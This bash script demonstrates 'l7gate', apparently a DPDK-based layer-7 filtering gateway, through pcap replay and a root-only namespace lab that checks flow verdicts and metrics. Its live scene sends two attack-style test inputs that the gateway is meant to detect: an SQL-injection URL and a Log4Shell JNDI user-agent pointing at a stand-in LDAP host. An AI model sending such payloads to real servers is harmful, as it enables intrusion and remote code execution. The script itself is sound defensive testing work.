#!/bin/bash
# Installs what is missing, builds l7gate in release mode and runs it as a bridge between two
# DPDK pcap vdevs on generated sample traffic (no NIC, no hugepages), then prints what it did.
#
#   tools/demo.sh          the capture replay described above
#   tools/demo.sh --live   the same policy inline on a live network: tools/netlab.sh builds
#                          client and server namespaces around l7gate (af_packet), real clients
#                          browse, hit a blocked hostname, download through a shaper and send a
#                          risky request; prints each flow's verdict and the live counters,
#                          then tears the lab down. Root only. L7GATE_BUILD_DIR=DIR uses (and
#                          builds with ninja) DIR instead of build/.
set -euo pipefail
cd "$(dirname "$0")/.."

live_demo() {
  [ "$(id -u)" -eq 0 ] || { echo "demo --live: needs root (network namespaces)" >&2; exit 1; }
  tools/install-deps.sh
  local dir lab=l7demo
  if [ -n "${L7GATE_BUILD_DIR:-}" ]; then
    dir=$L7GATE_BUILD_DIR
    if ! ninja -C "$dir" >"/tmp/$lab-ninja.log" 2>&1; then
      [ -x "$dir/l7gate" ] || { cat "/tmp/$lab-ninja.log" >&2; exit 1; }
      echo "demo --live: ninja -C $dir failed (/tmp/$lab-ninja.log); using the existing $dir/l7gate" >&2
    fi
  else
    dir=$(tools/build.sh release)
  fi
  local ldir=/tmp/$lab
  local work
  work=$(mktemp -d /tmp/l7gate-live-demo.XXXXXX)
  local gate_pid=""
  # Everything the lab started goes, whatever happens.
  trap 'if [ -n "${gate_pid:-}" ]; then kill -TERM "$gate_pid" 2>/dev/null || true; fi
        tools/netlab.sh down --lab '"$lab"' --dir '"$ldir"' >/dev/null 2>&1 || true' EXIT
  tools/netlab.sh down --lab "$lab" --dir "$ldir" >/dev/null 2>&1 || true
  tools/netlab.sh up --lab "$lab" --dir "$ldir"
  # shellcheck disable=SC1091
  . "$ldir/env"
  local C=(ip netns exec "$NS_CLI") G=(ip netns exec "$NS_GW")
  local src=$CLI4C   # 198.18.1.10: config/demo-policy.yaml's "office" pool

  echo
  echo "Lab: client $src (office pool) in $NS_CLI  <->  l7gate in $NS_GW  <->  server $SRV4 in $NS_SRV"
  echo "l7gate: two af_packet vdevs, 2 workers (kernel fanout), config/demo-policy.yaml,"
  echo "        Prometheus metrics on 127.0.0.1:9777 inside $NS_GW"
  tools/netlab.sh gate --lab "$lab" --bin "$dir/l7gate" --qpairs 2 -- \
    --policy config/demo-policy.yaml --metrics 127.0.0.1:9777 \
    --flow-log "$work/flows.jsonl" --stats-json "$work/stats.json" >"$work/l7gate.log" 2>&1 &
  gate_pid=$!
  local i
  for i in $(seq 100); do
    grep -q "port(s) in" "$work/l7gate.log" 2>/dev/null && break
    kill -0 "$gate_pid" 2>/dev/null || { cat "$work/l7gate.log"; exit 1; }
    sleep 0.1
  done
  sleep 0.5

  # curl in the client namespace from the office address; prints one result line.
  scene() {
    local what=$1; shift
    local out rc t0 t1
    t0=$(date +%s.%N)
    out=$("${C[@]}" curl -sS -k -m 3 --interface "$src" -o /dev/null \
          -w '%{http_code} %{size_download}' "$@" 2>&1) && rc=0 || rc=$?
    t1=$(date +%s.%N)
    printf '  %-44s curl exit %-3s %5.2f s  %s\n' "$what" "$rc" "$(awk -v a="$t0" -v b="$t1" 'BEGIN { print b - a }')" \
      "$(echo "$out" | tail -1 | cut -c1-60)"
  }
  echo
  echo "Scene (real clients in $NS_CLI):"
  scene "browse https://allowed.test" --resolve "allowed.test:443:$SRV4" https://allowed.test/
  scene "browse http://www.lab.test" --resolve "www.lab.test:80:$SRV4" http://www.lab.test/
  "${C[@]}" dig +short +time=2 +tries=1 @"$SRV4" -b "$src" www.lab.test >/dev/null &&
    printf '  %-44s ok\n' "DNS www.lab.test"
  scene "blocked hostname https://www.youtube.com" --resolve "www.youtube.com:443:$SRV4" https://www.youtube.com/
  scene "ad server http://ads.example.com" --resolve "ads.example.com:80:$SRV4" http://ads.example.com/
  # TLS.NetFlix: category Video, shape:bulk (20 Mbit/s) in the office policy. (Over plain HTTP
  # the office policy's "protocols: {HTTP: pass}" would decide first.)
  scene "shaped download (Video, 20 Mbit/s) 10 MB" -m 30 --resolve "www.netflix.com:443:$SRV4" \
    https://www.netflix.com/10M.bin
  scene "risky request (SQL injection URL)" --resolve "shop.lab.test:80:$SRV4" \
    "http://shop.lab.test/products.php?id=1%27%20OR%20%271%27%3D%271"
  scene "risky request (Log4Shell user-agent)" -A '${jndi:ldap://198.18.0.66:1389/a}' "http://$SRV4/"

  echo
  echo "Live counters (l7gate's /metrics, scraped in $NS_GW):"
  "${G[@]}" curl -s -m 3 http://127.0.0.1:9777/metrics >"$work/metrics.txt" || true
  /usr/bin/python3 - "$work/metrics.txt" <<'PY'
import re, sys
tot = {}
for line in open(sys.argv[1]):
    if line.startswith("#") or not line.strip():
        continue
    m = re.match(r'([a-z_0-9]+)(\{[^}]*\})? ([0-9.e+-]+)', line)
    if not m:
        continue
    name, labels, v = m.group(1), m.group(2) or "", float(m.group(3))
    if name in ("l7gate_rx_packets_total", "l7gate_tx_packets_total", "l7gate_rx_bytes_total"):
        tot[name] = tot.get(name, 0) + v
    elif v and name in ("l7gate_drops_total", "l7gate_verdicts_total", "l7gate_l7_flows_total",
                        "l7gate_risk_flows_total"):
        print("  %-18s %-66s %d" % (name[7:], labels[:66], v))
for k, v in tot.items():
    print("  %-18s %-66s %d" % (k[7:], "", v))
PY

  kill -TERM "$gate_pid"
  wait "$gate_pid" || true
  gate_pid=""
  echo
  echo "Flows (l7gate's flow log, $work/flows.jsonl):"
  /usr/bin/python3 - "$work/flows.jsonl" "$work/stats.json" <<'PY'
import json, sys
rows = [json.loads(l) for l in open(sys.argv[1]) if l.strip()]
rows = [r for r in rows if "event" not in r and r["l4_proto"] in ("TCP", "UDP")]
print(f'  {"flow":<46} {"l7_proto":<14} {"host":<18} {"verdict":<11} {"reason":<34} risks')
for r in sorted(rows, key=lambda r: r["ts_first"]):
    flow = f'{r["l4_proto"]} {r["src_ip"]}:{r["src_port"]} > {r["dst_ip"]}:{r["dst_port"]}'
    print(f'  {flow[:46]:<46} {r["l7_proto"][:14]:<14} {r["host"][:18]:<18} {r["verdict"]:<11} '
          f'{r["verdict_reason"][:34]:<34} {"; ".join(r["risks"])}')
st = json.load(open(sys.argv[2]))
t = st["totals"]
print()
print("  at exit: rx %d = tx %d + dropped %d (%s); RSTs injected %d; flows %d"
      % (t["rx_packets"], t["tx_packets"], t["dropped"],
         ", ".join("%s %d" % kv for kv in st["drops"].items() if kv[1]) or "none",
         st["injected"]["sent"], st["flows"]["created"]))
un = st["uninspected"]
print("  forwarded uninspected: %d packets, %d bytes of %d forwarded (%s)"
      % (sum(v["packets"] for v in un.values()), sum(v["bytes"] for v in un.values()), t["tx_packets"],
         ", ".join("%s %d" % (k, v["packets"]) for k, v in un.items() if v["packets"]) or "every cause 0"))
PY
  echo
  tools/netlab.sh down --lab "$lab" --dir "$ldir"
  trap - EXIT
  echo "Files: $work (flow log, stats JSON, l7gate log, metrics)"
}

if [ "${1:-}" = "--live" ]; then
  live_demo
  exit 0
fi

tools/install-deps.sh
dir=$(tools/build.sh release)
work="$dir/demo"
mkdir -p "$work"
/usr/bin/python3 tools/gen_traffic.py "$work" --set l7 >/dev/null
/usr/bin/python3 tools/gen_traffic.py "$work" --set bridge >/dev/null

echo
echo "Sample traffic (generated by tools/gen_traffic.py):"
echo "  port 0 (LAN) receives $work/l7.pcap: TLS, HTTP, DNS, SSH, QUIC, BitTorrent, risky requests"
echo "  port 1 (WAN) receives $work/bridge-p1.pcap: replies, ARP, LLDP, fragments, VLANs"
cmd=("$dir/l7gate" --no-huge --no-pci -m 1024 -l 0-1 --log-level='*:warning'
     --file-prefix "l7gate-demo-$$"
     --vdev "net_pcap0,rx_pcap=$work/l7.pcap,tx_pcap=$work/out-p0.pcap"
     --vdev "net_pcap1,rx_pcap=$work/bridge-p1.pcap,tx_pcap=$work/out-p1.pcap"
     -- --pairs 0:1 --flows 65536 --clock capture --idle-exit 300
     --policy config/demo-policy.yaml
     --flow-log "$work/flows.jsonl" --stats-json "$work/stats.json")
echo "Running: ${cmd[*]}"
echo
"${cmd[@]}"
echo
echo "Flows of port 0's traffic with the verdicts of config/demo-policy.yaml, from the flow log ($work/flows.jsonl):"
/usr/bin/python3 - "$work/flows.jsonl" <<'PY'
import json, sys
rows = [json.loads(l) for l in open(sys.argv[1])]
rows = [r for r in rows if r["src_ip"].startswith(("198.18.1.", "2001:db8:100::"))]
print(f'{"flow":<44} {"l7_proto":<12} {"host":<21} {"score":>5} {"verdict":<13} {"reason":<38} risks')
for r in sorted(rows, key=lambda r: r["ts_first"])[:30]:
    flow = f'{r["l4_proto"]} {r["src_ip"]}:{r["src_port"]} > {r["dst_ip"]}:{r["dst_port"]}'
    print(f'{flow[:44]:<44} {r["l7_proto"][:12]:<12} {r["host"][:21]:<21} {r["risk_score"]:>5} '
          f'{r["verdict"]:<13} {r["verdict_reason"][:38]:<38} {"; ".join(r["risks"])}')
PY
echo
echo "Inspection coverage (stats JSON \"uninspected\"; Prometheus l7gate_uninspected_packets_total{cause}):"
/usr/bin/python3 - "$work/stats.json" <<'PY'
import json, sys
st = json.load(open(sys.argv[1]))
t, un = st["totals"], st["uninspected"]
n = sum(v["packets"] for v in un.values())
print("  %d of %d forwarded packets were not inspected (%.1f%%), by cause:" % (n, t["tx_packets"],
      100.0 * n / t["tx_packets"] if t["tx_packets"] else 0.0))
for k, v in un.items():
    print("    %-14s %6d packets %9d bytes" % (k, v["packets"], v["bytes"]))
PY
echo
echo "Forwarded frames: $work/out-p1.pcap (to WAN) and $work/out-p0.pcap (to LAN); all counters: $work/stats.json"
